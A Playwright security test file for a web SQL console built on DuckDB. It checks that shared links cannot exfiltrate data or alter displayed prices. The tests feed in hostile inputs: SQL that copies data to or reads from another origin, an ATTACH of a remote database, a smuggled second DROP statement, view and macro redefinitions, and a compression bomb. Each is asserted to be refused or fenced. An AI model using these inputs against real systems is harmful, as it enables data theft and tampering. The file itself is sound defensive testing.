// A share link cannot be turned against its reader (issue 11, items 1, 2 and 5), in real Chromium
// against the real nginx, with a second origin on another port that records every request: data on
// another origin waits for the reader, the worker's own CSP fences fetch/WebSocket/import, only a
// single read-only SELECT runs by itself, console SQL cannot change the pages, and the app never
// writes a link nginx refuses.
import { deflateRawSync } from 'node:zlib';
import type { Page } from '@playwright/test';
import { expect, screenshot, test } from './harness/fixtures.ts';
import { startForeignOrigin, type ForeignOrigin } from './harness/foreign-origin.ts';
import { waitForSymbolPageDrawn } from './harness/symbol-page.ts';

let foreign: ForeignOrigin;
test.beforeAll(async () => {
  foreign = await startForeignOrigin();
});
test.afterAll(async () => {
  await foreign?.stop();
});
test.beforeEach(() => {
  foreign.requests.length = 0;
});

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));
const link = (params: Record<string, string>) => `/?${new URLSearchParams(params).toString()}`;

async function consoleReady(page: Page): Promise<void> {
  await expect(page.getByTestId('schema-browser')).toContainText('atm_features', { timeout: 45_000 });
}

async function typeSql(page: Page, sql: string): Promise<void> {
  await page.getByTestId('sql-editor').click();
  await page.keyboard.press('ControlOrMeta+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(sql);
}

/** The Symbol page's SPY spot, as the Expected move panel prints it. */
async function spySpot(page: Page): Promise<string> {
  await page.getByTestId('nav-symbol').click();
  await page.getByTestId('symbol-select').selectOption('SPY');
  await waitForSymbolPageDrawn(page, { symbol: 'SPY' });
  return (await page.getByTestId('expected-move').locator('.spot strong').textContent())!.trim();
}

test('a ?data= link to another origin names it and fetches nothing until the reader confirms', async ({ page }) => {
  const exfil = `SELECT * FROM read_csv_auto('${foreign.origin}/exfil.csv')`;
  await page.goto(link({ data: `${foreign.origin}/manifest.json`, page: 'console', sql: exfil }));
  const ask = page.getByTestId('data-consent');
  await expect(ask).toContainText(`Load data from ${foreign.origin}?`);
  await expect(ask).toContainText('Nothing has been loaded from it');
  // The engine starts meanwhile (its wasm is the app's own); give any stray request time to land.
  await sleep(2000);
  expect(foreign.requests).toEqual([]);
  await screenshot(page, 'link-foreign-data-consent');

  // Confirmed: the worker tries, and the deployment's CSP (connect-src 'self' plus its listed data
  // origins) refuses before a byte leaves the browser, with a message that says so.
  await page.getByTestId('data-consent-load').click();
  await expect(page.locator('main')).toContainText("security policy does not allow loading data from that origin", { timeout: 45_000 });
  await expect(page.locator('main')).toContainText(foreign.origin);
  await sleep(500);
  expect(foreign.requests).toEqual([]);
  await screenshot(page, 'link-foreign-data-refused');
});

test("the DuckDB worker's own CSP blocks fetch, WebSocket and import to another origin", async ({ page, request }) => {
  await page.goto('/');
  await expect(page.getByTestId('dataset-info')).toBeVisible({ timeout: 45_000 });
  const worker = page.workers().find((w) => /duckdb\.worker/.test(w.url()));
  expect(worker, `workers: ${page.workers().map((w) => w.url()).join(', ')}`).toBeTruthy();
  const csp = (await request.get(worker!.url())).headers()['content-security-policy'] ?? '';
  expect(csp).toMatch(/connect-src 'self'/);
  expect(csp).toContain("'wasm-unsafe-eval'");

  const outcome = await worker!.evaluate(async (origin) => {
    const settle = async (p: () => Promise<unknown>) => {
      try {
        await p();
        return 'reached';
      } catch (e) {
        return `blocked: ${(e as Error).name}`;
      }
    };
    const own = await settle(async () => {
      const r = await fetch('./quantiv-config.json'.replace('./', `${location.origin}/`));
      if (!r.ok) throw new Error(String(r.status));
    });
    const fetched = await settle(() => fetch(`${origin}/from-worker-fetch`));
    const socket = await settle(() => new Promise((resolve, reject) => {
      const ws = new WebSocket(`${origin.replace('http', 'ws')}/from-worker-ws`);
      ws.onopen = resolve;
      ws.onerror = () => reject(new Error('WebSocket error'));
    }));
    const imported = await settle(() => import(/* @vite-ignore */ `${origin}/from-worker-import.js`));
    return { own, fetched, socket, imported };
  }, foreign.origin);
  // The same code reaches the app's own origin, so a block is the policy, not a broken test.
  expect(outcome.own).toBe('reached');
  expect(outcome.fetched).toMatch(/^blocked/);
  expect(outcome.socket).toMatch(/^blocked/);
  expect(outcome.imported).toMatch(/^blocked/);
  await sleep(500);
  expect(foreign.requests).toEqual([]);
});

test('link SQL that is not one read-only SELECT is shown with the reason and not run', async ({ page }) => {
  // Six fresh page loads, each a cold engine start.
  test.setTimeout(240_000);
  const cases: [string, RegExp][] = [
    ['SET enable_external_access=false', /SET statement, not a read-only SELECT/],
    ["CREATE OR REPLACE VIEW atm_features AS SELECT 1 AS spot_price", /CREATE statement/],
    [`COPY (SELECT 1) TO '${foreign.origin}/leak.csv'`, /COPY statement/],
    [`ATTACH '${foreign.origin}/x.duckdb' AS x`, /ATTACH statement/],
    ['SELECT 1; SELECT 2', /holds 2 statements/],
    ["SELECT ';' AS a; DROP VIEW options -- ;", /holds 2 statements/],
  ];
  for (const [sql, reason] of cases) {
    await page.goto(link({ page: 'console', sql }));
    await consoleReady(page);
    await expect(page.getByTestId('sql-refused'), sql).toContainText(reason);
    await expect(page.getByTestId('console-stats')).toHaveAttribute('data-state', 'idle');
    await expect(page.getByTestId('sql-result')).toHaveCount(0);
  }
  // Pressed anyway, two statements get a clear message instead of DuckDB's PendingQuery one.
  await page.getByTestId('run-sql').click();
  await expect(page.getByTestId('sql-error')).toContainText('one statement at a time');
  await expect(page.getByTestId('sql-error')).not.toContainText('PendingQuery');
  expect(foreign.requests).toEqual([]);
  await screenshot(page, 'link-sql-refused');
});

test('a single SELECT auto-runs, and one that builds a foreign URL at run time is still fenced', async ({ page }) => {
  await page.goto(link({ page: 'console', sql: 'SELECT 41 + 1 AS answer' }));
  await expect(page.getByTestId('console-stats')).toHaveAttribute('data-state', 'done', { timeout: 45_000 });
  await expect(page.getByTestId('sql-result')).toContainText('42');

  const host = foreign.origin.replace('http:', '');
  await page.goto(link({ page: 'console', sql: `SELECT * FROM read_csv('http:' || '${host}/x.csv')` }));
  await expect(page.getByTestId('sql-error')).toContainText('another site', { timeout: 45_000 });
  await sleep(500);
  expect(foreign.requests).toEqual([]);
});

test("console SQL cannot change what the pages show, nor break their connection", async ({ page, request }) => {
  // Two page loads, two Symbol pages drawn and eight console statements.
  test.setTimeout(150_000);
  await page.goto('/?symbol=SPY');
  const before = await spySpot(page);
  expect(Number(before)).toBeGreaterThan(0);

  const manifest = (await (await request.get('/data/manifest.json')).json()) as { files: { path: string; sha256: string }[] };
  const atm = manifest.files.find((f) => f.path.endsWith('atm_features.parquet'))!;
  const file = `lake/${atm.sha256.slice(0, 16)}/${atm.path}`;
  const attack = `CREATE OR REPLACE VIEW atm_features AS SELECT * REPLACE (spot_price*10 AS spot_price) FROM read_parquet('${file}')`;
  await page.goto(link({ page: 'console', sql: attack }));
  await consoleReady(page);
  await expect(page.getByTestId('sql-refused')).toContainText('CREATE statement');
  // The reader runs it anyway, and more: each lands on the console's own connection only.
  const attacks = [
    attack,
    `CREATE OR REPLACE VIEW memory.main.atm_features AS SELECT * REPLACE (spot_price*10 AS spot_price) FROM read_parquet('${file}')`,
    'CREATE OR REPLACE MACRO round(x, n) AS 0',
    'DROP VIEW options',
  ];
  for (const sql of attacks) {
    await typeSql(page, sql);
    await page.getByTestId('run-sql').click();
    await expect(page.getByTestId('console-stats'), sql).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
  }
  // The attack did take effect where it ran, so the unchanged page below is the fence at work.
  await typeSql(page, "SELECT max(spot_price) AS s FROM atm_features WHERE underlying = 'SPY'");
  await page.getByTestId('run-sql').click();
  await expect(page.getByTestId('console-stats')).toHaveAttribute('data-state', 'done', { timeout: 30_000 });
  const consoleMax = Number((await page.getByTestId('sql-result').locator('tbody td').first().textContent())!.replace(/,/g, ''));
  expect(consoleMax).toBeGreaterThan(Number(before) * 5);

  for (const sql of ['SET enable_external_access=false', "SET search_path = 'memory.main'", 'USE memory']) {
    await typeSql(page, sql);
    await page.getByTestId('run-sql').click();
    await expect(page.getByTestId('console-stats'), sql).not.toHaveAttribute('data-state', 'running', { timeout: 30_000 });
  }
  expect(await spySpot(page)).toBe(before);
  await screenshot(page, 'console-cannot-change-pages');
});

test('a long SQL goes into the fragment: the link the app writes opens, and round-trips', async ({ page, request }) => {
  // 18.6 kB of SQL that compresses poorly, like the one that became a 10,450-character link.
  let seed = 7;
  const word = () => ((seed = (seed * 1103515245 + 12345) % 2 ** 31), seed.toString(36));
  const columns = Array.from({ length: 800 }, (_, i) => `'${word()}${word()}' AS c${i}`);
  const sql = `SELECT ${columns.join(', ')}, 'END-OF-LINK-SQL' AS tail`;
  expect(sql.length).toBeGreaterThan(18_000);
  await page.goto('/?page=console');
  await consoleReady(page);
  await typeSql(page, sql);
  await expect.poll(() => new URL(page.url()).hash, { timeout: 15_000 }).toMatch(/^#sqlz=/);
  const written = new URL(page.url());
  expect(written.search.length).toBeLessThanOrEqual(4000);
  // The same state in the query string is what nginx refuses.
  expect((await request.get(`/?page=console&${written.hash.slice(1)}`)).status()).toBe(414);

  // From elsewhere, so this is a real load of the written link and not a same-document hash change.
  await page.goto('about:blank');
  const response = await page.goto(written.href);
  expect(response?.status()).toBe(200);
  await expect(page.getByTestId('console-stats')).toHaveAttribute('data-state', 'done', { timeout: 45_000 });
  await expect(page.getByTestId('sql-result')).toContainText('END-OF-LINK-SQL');
  // The editor draws only what is on screen; the link it writes back is the whole SQL, byte for byte.
  await expect.poll(() => page.url(), { timeout: 15_000 }).toBe(written.href);
});

test('a small sqlz that inflates to megabytes is refused, not run', async ({ page }) => {
  const bomb = `SELECT 1 ${' '.repeat(6_000_000)}`;
  const sqlz = deflateRawSync(Buffer.from(bomb), { level: 9 }).toString('base64url');
  expect(bomb.length).toBeGreaterThan(6_000_000);
  expect(sqlz.length).toBeLessThan(10_000);
  await page.goto(`/?page=console#sqlz=${sqlz}`);
  await expect(page.getByTestId('url-notice')).toContainText('inflates to more than 128 KiB', { timeout: 45_000 });
  await consoleReady(page);
  await expect(page.getByTestId('console-stats')).toHaveAttribute('data-state', 'idle');
  await expect(page.getByTestId('sql-result')).toHaveCount(0);
});

test('export runs only a SELECT, on the console connection, whatever comments it ends with', async ({ page }) => {
  await page.goto(link({ page: 'console', sql: 'SELECT 42 AS answer -- a trailing comment' }));
  await expect(page.getByTestId('console-stats')).toHaveAttribute('data-state', 'done', { timeout: 45_000 });
  const download = page.waitForEvent('download');
  await page.getByTestId('export-csv').click();
  const csv = await (await download).createReadStream();
  let text = '';
  for await (const chunk of csv) text += String(chunk);
  expect(text.trim().split('\n')).toEqual(['answer', '42']);
  // The editor now holds DDL; the last result still enables Export, and the engine refuses it.
  await typeSql(page, "CREATE OR REPLACE VIEW atm_features AS SELECT 1 AS spot_price");
  await page.getByTestId('export-csv').click();
  await expect(page.getByTestId('sql-error')).toContainText('Only a SELECT can be exported');
});
